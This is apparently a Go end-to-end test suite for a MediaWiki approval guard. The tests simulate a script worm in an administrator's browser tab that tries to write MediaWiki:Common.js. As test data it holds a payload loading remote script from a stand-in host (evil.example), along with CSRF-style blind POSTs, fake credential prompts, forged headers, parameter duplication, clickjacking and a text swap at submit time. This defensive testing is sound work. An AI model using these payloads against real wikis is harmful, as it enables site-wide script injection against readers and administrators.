package e2e

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"sallyport/internal/browsertest"
)

// worm is code that runs in the tab of somebody with power, on the wiki's own origin: it may do whatever a page may do.
type worm struct {
	*guarded
	p *browsertest.Page
}

// reply is what api.php told the worm.
type reply struct {
	Error struct {
		Code      string
		Sallyport struct{ Pending, Address, Resume string }
	}
	Edit struct{ Result string }
}

// save tries to save a page with the session's own token.
func (w worm) save(title, text string) (r reply) {
	w.Helper()
	answer := browsertest.Eval[string](w.p, fmt.Sprintf(`( async () => {
		const tokens = await ( await fetch( %q + '/api.php?action=query&meta=tokens&format=json' ) ).json();
		const body = new URLSearchParams( { action: 'edit', format: 'json', title: %q, text: %q, summary: 'worm', token: tokens.query.tokens.csrftoken } );
		return ( await fetch( %q + '/api.php', { method: 'POST', body } ) ).text();
	} )()`, w.script, title, text, w.script))
	if err := json.Unmarshal([]byte(answer), &r); err != nil {
		w.Fatalf("api.php says %.500s", answer)
	}
	return r
}

// try runs an expression that may throw, and returns its value or the error's name.
func (w worm) try(expr string) string {
	w.Helper()
	return browsertest.Eval[string](w.p, "( async () => String( await ( "+expr+" ) ) )().catch( ( e ) => e.name )")
}

// waits is what the page says of a change that is parked.
const waits = "waits for approval"

const evil = "mw.loader.load( 'https://evil.example/x.js' );"

func (g *guarded) unharmed(what string) {
	g.Helper()
	if text := g.raw("MediaWiki:Common.js"); strings.Contains(text, "evil") {
		g.Errorf("%s: saved %q", what, text)
	}
}

// state of a change, as a person sees it who opens its page.
func (g *guarded) state(p *browsertest.Page, address string) string {
	g.Helper()
	p.Goto(address)
	text := p.Text("main")
	_, rest, _ := strings.Cut(text, "State")
	state, _, _ := strings.Cut(strings.TrimSpace(rest), "\n")
	return state
}

// The rows of the threat model, against the real MediaWiki, with an authenticator that says yes to everything. Everything is
// resisted but the approval of a text that was swapped and not read, which the last test is about.
func TestAWormInAnAdminsTabChangesNoCode(t *testing.T) {
	g := guard(t, realWiki, "open_changes = 40\n")
	b := browsertest.Start(t)
	p := g.admin(b)
	w := worm{g, p}
	look := g.person(b) // another window, to see what became of things
	p.Goto(g.page("Main_Page"))

	first := w.save("MediaWiki:Common.js", evil)
	id := first.Error.Sallyport.Pending
	if first.Error.Code != "sallyport-approval-needed" || id == "" || !strings.HasPrefix(first.Error.Sallyport.Address, g.confirm+"/a/") {
		t.Fatalf("the API says %+v", first)
	}
	g.unharmed("an edit without an approval")
	address := first.Error.Sallyport.Address

	for _, row := range []struct{ name, expr, want string }{
		{"the worm makes the change itself", `fetch( '/sallyport/resume/ID' ).then( ( r ) => r.status )`, "403"},
		{"fake prompt: the confirm host's keys asked for on the wiki", `navigator.credentials.get( { publicKey: { challenge: new Uint8Array( 32 ), rpId: 'confirm.localhost', userVerification: 'required' } } )`, "SecurityError"},
		{"fake prompt: keys of the common parent", `navigator.credentials.get( { publicKey: { challenge: new Uint8Array( 32 ), rpId: 'localhost', userVerification: 'required' } } )`, "SecurityError"},
		{"a key for the confirm host made on the wiki", `navigator.credentials.create( { publicKey: { challenge: new Uint8Array( 32 ), rp: { id: 'confirm.localhost', name: 'x' }, user: { id: new Uint8Array( 8 ), name: 'x', displayName: 'x' }, pubKeyCredParams: [ { type: 'public-key', alg: -7 } ] } } )`, "SecurityError"},
		{"reading the approval page with CORS", `fetch( 'CONFIRM/a/ID', { credentials: 'include' } ).then( ( r ) => r.text() )`, "TypeError"},
		{"blind POST of an approval", `fetch( 'CONFIRM/a/ID/approve', { method: 'POST', mode: 'no-cors', credentials: 'include', body: new URLSearchParams( { until: '9999999999', answer: '{}' } ) } ).then( ( r ) => r.type )`, "TypeError"},
		{"blind POST of a rejection", `fetch( 'CONFIRM/a/ID/reject', { method: 'POST', mode: 'no-cors' } ).then( ( r ) => r.type )`, "TypeError"},
		{"blind POST to the keys", `fetch( 'CONFIRM/keys', { method: 'POST', mode: 'no-cors', body: new URLSearchParams( { until: '9999999999', answer: '{}' } ) } ).then( ( r ) => r.type )`, "TypeError"},
		{"the confirm host's script loaded into the wiki", `new Promise( ( done ) => { const s = document.createElement( 'script' ); s.src = 'CONFIRM/a/ID'; s.onload = () => done( 'loaded' ); s.onerror = () => done( 'refused' ); document.head.append( s ); } )`, "refused"},
		{"clickjacking: the page in a frame", `new Promise( ( done ) => { const f = document.createElement( 'iframe' ); f.src = 'CONFIRM/a/ID'; f.onload = () => setTimeout( () => { try { done( f.contentDocument === null ? 'another origin' : 'empty' ); } catch ( e ) { done( e.name ); } }, 200 ); document.body.append( f ); } )`, "another origin"},
		{"a grant of its own", `fetch( SCRIPT + '/api.php?action=query&meta=tokens&format=json' ).then( ( r ) => r.json() ).then( ( t ) => fetch( SCRIPT + '/api.php', { method: 'POST', headers: { 'X-Sallyport-Grant': 'x.y', 'X-Sallyport-Approval': 'e30.eA.eA' }, body: new URLSearchParams( { action: 'edit', format: 'json', title: 'MediaWiki:Common.js', text: 'evil2', token: t.query.tokens.csrftoken } ) } ) ).then( ( r ) => r.json() ).then( ( r ) => r.error.code )`, "sallyport-refused"},
		{"a session that is not the cookies'", `fetch( SCRIPT + '/api.php', { method: 'POST', headers: { Authorization: 'Bearer x' }, body: new URLSearchParams( { action: 'edit', format: 'json', title: 'MediaWiki:Common.js', text: 'evil', token: 'x' } ) } ).then( ( r ) => r.json() ).then( ( r ) => r.error.code )`, "sallyport-refused"},
		{"the page's name said twice", `fetch( SCRIPT + '/api.php', { method: 'POST', body: new URLSearchParams( 'action=edit&format=json&title=Sandbox&title=MediaWiki:Common.js&text=evil3&token=x' ) } ).then( ( r ) => r.json() ).then( ( r ) => r.error.code )`, "sallyport-approval-needed"},
	} {
		expr := strings.NewReplacer("ID", id, "CONFIRM", g.confirm, "SCRIPT", "'"+g.script+"'").Replace(row.expr)
		expr = strings.ReplaceAll(expr, "rp"+id, "rpId") // the replacer knows no words
		got := w.try(expr)
		if got != row.want {
			t.Errorf("%s: %s, want %s", row.name, got, row.want)
		}
		t.Logf("%-60s %s", row.name, got)
		g.unharmed(row.name)
		if state := g.state(look, address); state != waits {
			t.Errorf("%s: the change is %s", row.name, state)
		}
	}

	// A window of the worm's on the approval page: the handle is dead once the page is there.
	if got := w.try(`( async () => { const o = window.open( '` + address + `' ); for ( let i = 0; i < 100 && o && !o.closed; i++ ) { await new Promise( ( r ) => setTimeout( r, 50 ) ); } return o ? o.closed : 'no window'; } )()`); got != "true" && got != "no window" {
		t.Errorf("popup: closed is %s", got)
	}
	g.unharmed("popup")

	// A form of the worm's, sent to the confirm origin at the top of the window.
	for _, deed := range []string{"approve", "reject", "not-me"} {
		p.Goto(g.page("Main_Page"))
		browsertest.Eval[bool](p, `( () => { const f = document.createElement( 'form' ); f.method = 'post'; f.action = '`+address+`/`+deed+`'; document.body.append( f ); f.submit(); return true; } )()`)
		p.WaitFor("location.host.startsWith( 'confirm' ) && document.readyState === 'complete'")
		if got := p.Text("body"); !strings.Contains(got, "not sent from this site") {
			t.Errorf("a form for %s: %s", deed, got)
		}
		if state := g.state(look, address); state != waits {
			t.Errorf("a form for %s: the change is %s", deed, state)
		}
	}
	g.unharmed("forms")

	// Enrolment: there is nothing to enrol with.
	for _, path := range []string{"/enrol/x", "/enrol/" + id, "/keys/revoke", "/keys/add"} {
		p.Goto(g.confirm + path)
		if got := p.Text("h1"); !strings.Contains(got, "nothing here any more") && !strings.Contains(got, "no such page") {
			t.Errorf("%s: %s", path, got)
		}
	}
}

// The worm waits for an honest approval and acts in its wake. There is no window: the approval was for one text.
func TestAnApprovalOpensNoWindow(t *testing.T) {
	g := guard(t, realWiki, "")
	b := browsertest.Start(t)
	p := g.admin(b)
	g.editForm(p, "MediaWiki:Common.js", "honest();")
	at := browsertest.Eval[string](p, "location.href")
	g.approve(p)
	p.WaitFor("location.host.startsWith( 'wiki' )")
	if got := strings.TrimSpace(g.raw("MediaWiki:Common.js")); got != "honest();" {
		t.Fatalf("the wiki has %q", got)
	}
	w := worm{g, p}
	if r := w.save("MediaWiki:Common.js", evil); r.Error.Code != "sallyport-approval-needed" {
		t.Errorf("in the wake of an approval: %+v", r)
	}
	g.unharmed("in the wake of an approval")
	// The approval itself, once more.
	_, id, _ := strings.Cut(at, "/a/")
	p.Goto(g.front + "/sallyport/resume/" + id)
	p.Goto(g.front + "/sallyport/resume/" + id)
	p.Goto(g.page("MediaWiki:Common.js&action=history"))
	if n := browsertest.Eval[int](p, "document.querySelectorAll( '#pagehistory li' ).length"); n != 1 {
		t.Errorf("%d revisions", n)
	}
}

// What a script sends is marked as such, a flood ends at its bound, and "this was not me" holds the account.
func TestAFloodEndsAndAReportHoldsTheAccount(t *testing.T) {
	g := guard(t, realWiki, "")
	b := browsertest.Start(t)
	p := g.admin(b)
	p.Goto(g.page("Main_Page"))
	w := worm{g, p}
	var codes []string
	var address string
	for i := range 6 {
		r := w.save("MediaWiki:Common.js", fmt.Sprintf("%s // %d", evil, i))
		codes = append(codes, r.Error.Code)
		if i == 0 {
			address = r.Error.Sallyport.Address
		}
	}
	if got := strings.Join(codes, " "); strings.Count(got, "sallyport-approval-needed") != 3 || strings.Count(got, "sallyport-too-many") != 3 {
		t.Errorf("six edits: %s", got)
	}
	p.Goto(address)
	text := p.Text("main")
	for _, want := range []string{"Sent by a script", "This change adds", "evil.example"} {
		if !strings.Contains(text, want) {
			t.Errorf("the page does not say %q:\n%s", want, text)
		}
	}
	p.WaitFor("getComputedStyle( document.querySelector( '.decide' ) ).pointerEvents !== 'none'")
	p.ClickTo("button.danger")
	if got := p.Text("h1"); got != "Stopped" {
		t.Errorf("the page says %s", got)
	}
	p.Goto(g.page("Main_Page"))
	for _, title := range []string{"MediaWiki:Common.js", "Sandbox"} { // whatever runs in that browser writes nothing more by itself
		if r := w.save(title, evil); r.Error.Code != "sallyport-held" {
			t.Errorf("%s after the report: %+v", title, r)
		}
	}
	g.unharmed("flood and report")
	g.editForm(p, "Sandbox", "ordinary")
	p.WaitFor("location.host.startsWith( 'wiki' )")
	if got := g.raw("Sandbox"); !strings.Contains(got, "ordinary") {
		t.Errorf("a person's own ordinary edit after the report: %q", got)
	}
}

// The one attack that a separate origin alone does not end: the worm swaps the text before it is sent, and the person
// approves without reading what the page shows. It is shown; a second person has to read it as well where the policy says so.
func TestASwappedTextIsShownAndASecondPersonCanStopIt(t *testing.T) {
	b := browsertest.Start(t)
	swap := func(g *guarded) *browsertest.Page {
		p := g.admin(b)
		p.Goto(g.page("MediaWiki:Common.js&action=edit"))
		browsertest.Eval[bool](p, "document.querySelector( '#editform' ).addEventListener( 'submit', () => { document.querySelector( '#wpTextbox1' ).value = \""+evil+"\"; } ), true")
		browsertest.Eval[string](p, "document.querySelector( '#wpTextbox1' ).value = 'honest();'")
		p.ClickTo("#wpSave")
		if text := p.Text("main"); !strings.Contains(text, "evil.example") || !strings.Contains(text, "This change adds") {
			g.Errorf("the page does not show the swapped text:\n%s", text)
		}
		g.approve(p)
		return p
	}
	t.Run("approved unread", func(t *testing.T) {
		g := guard(t, realWiki, "")
		p := swap(g)
		p.WaitFor("location.host.startsWith( 'wiki' )")
		if !strings.Contains(g.raw("MediaWiki:Common.js"), "evil") {
			t.Error("it is resisted; then the documentation is wrong")
		}
	})
	t.Run("written on the clean origin", func(t *testing.T) {
		g := guard(t, realWiki, "")
		p := g.admin(b)
		g.edit("Admin", "MediaWiki:Common.js", "old();\nline();")
		p.Goto(g.confirm + "/compose")
		p.Type("#title", "mediaWiki:common.js")
		p.ClickTo("button.main")
		if got := browsertest.Eval[string](p, "document.querySelector( '#text' ).value"); got != "old();\nline();" {
			t.Errorf("the page begins with %q", got)
		}
		browsertest.Eval[string](p, "document.querySelector( '#text' ).value = 'honest();\\nline();'")
		p.Type("#summary", "because")
		p.Click("button.main")
		p.WaitFor("document.querySelector( '.decide' )")
		if text := p.Text("main"); !strings.Contains(text, "Written on this site") || !strings.Contains(text, "honest();") || !strings.Contains(text, "because") {
			t.Errorf("the page says %s", text)
		}
		g.approve(p)
		p.WaitFor("location.host.startsWith( 'wiki' )")
		if got := strings.TrimSpace(g.raw("MediaWiki:Common.js")); got != "honest();\nline();" {
			t.Errorf("the wiki has %q; the window says %.500s", got, p.Text("body"))
		}
	})
	t.Run("two people", func(t *testing.T) {
		g := guard(t, realWiki, "[write_door.tiers]\nsite-code = \"two-person\"\n")
		p := swap(g)
		if got := p.Text("h1"); !strings.Contains(got, "second person") {
			t.Errorf("the page says %s", got)
		}
		g.unharmed("one approval of two")
		at := browsertest.Eval[string](p, "location.href")
		g.addUser("Olga", password("Olga"), "sysop", "interface-admin")
		olga := g.person(b)
		g.enrol(olga, "Olga")
		address := strings.TrimSuffix(at, "/approve")
		olga.Goto(g.confirm + "/queue")
		olga.ClickTo("button.main")
		if text := olga.Text("table"); !strings.Contains(text, "MediaWiki:Common.js") || !strings.Contains(text, "1 approval") {
			t.Errorf("the queue: %s", text)
		}
		if state := g.state(olga, address); state != waits || !strings.Contains(olga.Text("main"), "Approved by Admin") {
			t.Errorf("the second person sees %q in %s", state, olga.Text("main"))
		}
		olga.WaitFor("getComputedStyle( document.querySelector( '.decide' ) ).pointerEvents !== 'none'")
		olga.ClickTo("form[action$=reject] button")
		g.unharmed("rejected by the second person")
	})
}
